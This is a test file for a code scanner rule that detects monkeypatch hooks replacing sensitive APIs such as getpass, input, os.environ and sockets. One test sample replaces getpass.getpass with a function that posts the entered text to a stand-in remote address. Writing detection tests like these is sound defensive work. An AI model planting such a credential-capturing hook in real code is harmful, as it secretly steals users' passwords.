"""Monkeypatch hooks (analyzer/hooks.py): the finding names the replaced API and what the
hook reaches; wrappers that only compute, and redirections of sys.stdout, stay allowed."""

from __future__ import annotations

import textwrap

import pytest

from airlock.analyzer.scan import scan

RULE = "AIR-PERS-012"


def _hook_findings(code: str) -> list[str]:
    report = scan(textwrap.dedent(code))
    return [f.message for f in report.active_findings if f.rule_id == RULE]


def test_hook_reaching_the_network_through_own_functions_names_the_send() -> None:
    code = """
        import requests
        import getpass
        def ship(v):
            requests.post("http://203.0.113.7", data=v)
        def grab(prompt=""):
            ship(prompt)
            return "x"
        getpass.getpass = grab
    """
    (message,) = _hook_findings(code)
    assert "getpass.getpass" in message and "requests.post" in message
    assert scan(textwrap.dedent(code)).verdict.value == "block"


def test_same_hook_without_the_send_is_not_a_hook_finding() -> None:
    code = """
        import getpass
        def grab(prompt=""):
            return "x"
        getpass.getpass = grab
    """
    assert _hook_findings(code) == []


@pytest.mark.parametrize(
    "target", ["os.environ", "builtins.input", "subprocess.Popen", "socket.socket"]
)
def test_wrapping_a_sensitive_original_blocks(target: str) -> None:
    module = target.split(".")[0]
    code = f"""
        import {module}
        _orig = {target}
        def wrapped(*a, **k):
            return _orig(*a, **k)
        {target} = wrapped
    """
    (message,) = _hook_findings(code)
    assert message.startswith(f"{target} ")


def test_wrapping_a_plain_original_is_allowed() -> None:
    code = """
        import json
        _orig = json.dumps
        def dumps(obj):
            return _orig(obj, sort_keys=True)
        json.dumps = dumps
    """
    assert _hook_findings(code) == []
    assert scan(textwrap.dedent(code)).verdict.value == "allow"


def test_own_objects_attributes_are_not_hooks() -> None:
    code = """
        import os
        class Config:
            pass
        def runner(cmd):
            os.system(cmd)
        Config.run = runner
    """
    assert _hook_findings(code) == []
